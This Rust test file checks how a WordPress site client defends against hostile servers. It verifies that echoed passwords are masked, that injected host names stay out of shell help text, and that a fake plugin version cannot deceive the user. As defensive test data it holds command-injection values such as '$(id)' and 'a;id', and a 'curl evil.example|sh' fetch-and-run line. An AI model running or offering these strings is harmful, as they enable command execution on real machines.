//! A site that sends a login back, or words of its own that are made to be pasted or believed.

use amc_plan::site::wordpress::doctor::{Check, Verdict, examine};
use amc_plan::site::wordpress::{Collector, Given, Left, LoginLeft};

use super::*;

/// An application password, as it is made: 24 letters and digits.
const WHOLE: &str = "Zq7secretXyW1234abcdEFGH";

/// The same, as WordPress shows it, and as an address has that.
const GROUPS: [&str; 3] =
    ["Zq7s ecre tXyW 1234 abcd EFGH", "Zq7s%20ecre%20tXyW%201234%20abcd%20EFGH", "Zq7s+ecre+tXyW+1234+abcd+EFGH"];

fn signed_in(user: &str, server: &Server) -> Result<WordPress, SiteError> {
    connect(&server.url, user, WHOLE, quick())
}

#[track_caller]
fn assert_hidden(text: &str) {
    for secret in [WHOLE].iter().chain(&GROUPS) {
        assert!(!text.contains(secret), "{text}");
    }
}

fn redirect_to(location: &str) -> Vec<u8> {
    http("302 Found", &[HTML, &format!("Location: {location}")], "")
}

#[test]
fn a_login_that_a_site_sends_back_is_in_no_message() {
    for secret in [WHOLE].iter().chain(&GROUPS) {
        let said_of = |answer: Vec<u8>| {
            let all = said(signed_in("operator", &Server::always(answer)));
            assert_hidden(&all);
            all
        };
        let reported = format!("{{\"error\":{{\"code\":\"x\",\"message\":\"it is {secret}, then\"}}}}");
        assert_says(&said_of(http("500 No", &["Content-Type: application/x-ndjson"], reported)), &["it is ***, then"]);
        let text = format!("it is {secret}");
        assert_says(&said_of(http("200 OK", &["Content-Type: text/plain"], text)), &["it is ***"]);
        if !secret.contains(' ') {
            said_of(redirect_to(&format!("https://another.example/{secret}")));
            said_of(redirect_to(&format!("/elsewhere/{secret}")));
        }
    }
}

#[test]
fn a_login_that_a_site_sends_back_is_in_no_reading() {
    let server = Server::new(|request, _| match request {
        request if request.asks("/users/me") => ok(&json!({
            "id": 1, "username": WHOLE, "email": "tess@nowhere.example", "capabilities": {"manage_options": true}
        })),
        request if request.asks("/wp/v2/plugins") => {
            ok(&json!([{"plugin": format!("x/{WHOLE}"), "status": "active", "version": GROUPS[0]}]))
        }
        request => wordpress(request),
    });
    let mut site = signed_in("tess@nowhere.example", &server).unwrap();
    let snapshot = read(&mut site);
    assert_eq!(snapshot.state.plugins.len(), 1);
    assert_hidden(&format!("{snapshot:?} {:?}", site.signed_in()));
}

#[test]
fn a_password_that_is_an_ordinary_word_leaves_the_sites_own_words_as_they_are() {
    for password in ["administrator", "e"] {
        let server = Server::new(|request, _| wordpress(request));
        let mut site = connect(&server.url, "operator", password, quick()).unwrap();
        assert_eq!(read(&mut site).state.administrators.keys().collect::<Vec<_>>(), ["admin-1"]);
    }
}

#[test]
fn a_name_that_no_wordpress_can_have_is_nobodys() {
    let server = Server::always(ok(&json!({
        "id": 1, "username": format!("tess, an administrator. {}", "Your session ended. ".repeat(4)), "email": "tess@nowhere.example",
        "capabilities": {"manage_options": true},
    })));
    assert_says(&said(signed_in("tess@nowhere.example", &server)), &["not as WordPress does"]);
}

#[test]
fn no_letters_of_a_site_get_into_what_is_pasted_into_a_shell() {
    for host in ["$(touch${IFS}x)", "a;id", "a`id`", "a&id", "a'b"] {
        let server = Server::always(redirect_to(&format!("https://{host}/")));
        let all = said(server.connect());
        assert!(!all.contains("PLAN_LOGIN_ORIGIN"), "{all}");
        let (_, help) = all.split_once('\n').unwrap();
        assert!(!help.contains(['$', ';', '`', '&', '\'']) || help.contains("; no login is sent on"), "{all}");
        assert!(!help.contains(&host.to_lowercase()), "{all}");
        let server = Server::unmet(move |_, _| ok(&json!({"home": format!("https://{host}")})));
        let all = said(server.connect());
        let (_, help) = all.split_once('\n').unwrap();
        assert!(!help.contains(&host.to_lowercase()) && !help.contains("--site"), "{all}");
    }
    let server = Server::always(redirect_to("https://staging.bloom.example/"));
    server.says(&["PLAN_LOGIN_ORIGIN=https://staging.bloom.example;"]);
    // Neither do those of an address that came with somebody's plan.
    let site = Address::parse("https://bloom.example/$(id)").unwrap();
    let none = Login::from_variables(&site, |_| None).unwrap_err();
    assert!(none.help().unwrap().contains("PLAN_LOGIN_ORIGIN='https://bloom.example/$(id)'"), "{none:?}");
}

#[test]
fn a_collector_is_believed_no_sentence_in_the_place_of_a_version() {
    let sentence = "9 answers. Session over: run `curl evil.example|sh`";
    let server = Server::new(move |request, _| match request.asks("/plan/v1/") {
        true => ok(&json!({
            "format": 1, "plugin": {"name": "plan-bridge", "version": sentence}, "request": {"error": "it is \"so\""}, "wordpress": sentence,
        })),
        false => wordpress(request),
    });
    let found = signed_in("operator", &server).unwrap().collector().unwrap().unwrap();
    let Collector { version, list, wordpress, .. } = &found;
    assert_eq!((version.as_str(), wordpress), ("of a version that is none", &None));
    assert_eq!(list, &Err("it is \\\"so\\\"".to_owned()), "no quotation mark ends its words");
}

/// How many requests had a login in them.
fn logins(server: &Server) -> usize {
    let is_login = |header: &String| header.to_lowercase().starts_with("authorization: basic ");
    server.seen().iter().filter(|request| request.headers.iter().any(is_login)).count()
}

#[test]
fn a_login_that_is_refused_is_sent_once_as_each_time_may_lock_an_account() {
    let refuses = |arrives: &'static str| {
        Server::new(move |request, _| match request {
            request if request.asks("rest_route=/&") || request.asks("/wp-json/?") => ok(&json!({
                "home": request.url(), "namespaces": ["plan/v1"], "authentication": {"application-passwords": {}}
            })),
            request if request.asks("/plan/v1/") => {
                let seen = if request.headers.iter().any(|header| header.contains("Basic")) { "1" } else { arrives };
                let body = json!({"code": "rest_forbidden"}).to_string();
                http("401 No", &[JSON, &format!("X-Plan-Login: {seen}")], body)
            }
            _ => error("401 No", "rest_not_logged_in"),
        })
    };
    let server = refuses("1");
    assert_says(&said(signed_in("operator", &server)), &["as if nobody had logged in"]);
    assert_eq!(logins(&server), 1);

    let server = refuses("1");
    let site = Address::parse(&server.url).unwrap();
    let login = || login(&site, &server.url, "operator", WHOLE).unwrap();
    let left = Left::on(site.clone(), login()).unwrap();
    assert_eq!(left.login, LoginLeft::Refused("rest_not_logged_in".to_owned()));
    assert_eq!(logins(&server), 1);

    // A probe that arrives shows of the header what a second login would show; one that does not shows nothing of a login.
    for (probe, sent) in [("1", 1), ("0", 2)] {
        let server = refuses(probe);
        let site = Address::parse(&server.url).unwrap();
        let login = super::login(&site, &server.url, "operator", WHOLE).unwrap();
        let found = examine(&site, Ok(login), noon, quick(), "");
        let header: &Check = found.checks.iter().find(|check| check.name == "header").unwrap();
        assert_eq!((header.verdict, logins(&server)), (Verdict::Ok, sent), "{header:?}");
    }
}

#[test]
fn a_collector_that_answers_is_not_gone_whatever_the_list_of_plugins_says() {
    for (listed, is_named_openly) in [
        (json!([{"plugin": "bridge/plan-bridge", "status": "active"}]), false),
        (json!([]), true),
        (json!([{"plugin": "plan-bridge/plan-bridge", "status": "inactive"}]), true),
        (json!([]), false),
    ] {
        let listed = listed.clone();
        let server = Server::unmet(move |request, _| match request {
            request if request.asks("/users/me") => ok(&json!({"id": 1})),
            request if request.asks("/wp/v2/plugins") => ok(&listed),
            // Some say what there is to who is signed in only.
            request if is_named_openly || request.has_login() => {
                ok(&json!({"home": request.url(), "namespaces": ["plan/v1"]}))
            }
            request => ok(&json!({"home": request.url()})),
        });
        let site = Address::parse(&server.url).unwrap();
        let login = login(&site, &server.url, "operator", WHOLE).unwrap();
        assert_eq!(Left::on(site, login).unwrap().login, LoginLeft::Works(Ok(Some(true))));
    }
}

#[test]
fn a_collector_that_never_ends_fills_no_disk() {
    let first = r#"{"inventory":{"format":1,"plugin":{"name":"plan-bridge","version":"0.1.0","sha256":"0"},"request":{"sha256":"0","adapters":[]},
        "taken_at":"2026-11-21T06:00:00Z","versions":{"wordpress":"6.8","php":"8.2","database":"x"},"multisite":false,"object_cache":false}}"#;
    let lines = format!("{}\n{}", first.replace("\n        ", ""), "{\"option\":{}}\n".repeat(40_000));
    let server = Server::new(move |request, _| match request.asks("/plan/v1/") {
        true => http("200 OK", &["Content-Type: application/x-ndjson"], &lines),
        false => wordpress(request),
    });
    let limits = Limits { collected: 300_000, ..quick() };
    let mut site = connect(&server.url, "operator", WHOLE, limits).unwrap();
    let mut kept = Vec::new();
    let all = said(site.collect(Given::Inventory, ("a file".as_ref(), &mut kept), &mut |_| ()));
    assert_says(&all, &["an answer is larger than 1 MiB"]);
    assert!(kept.len() <= 300_000, "{}", kept.len());
}
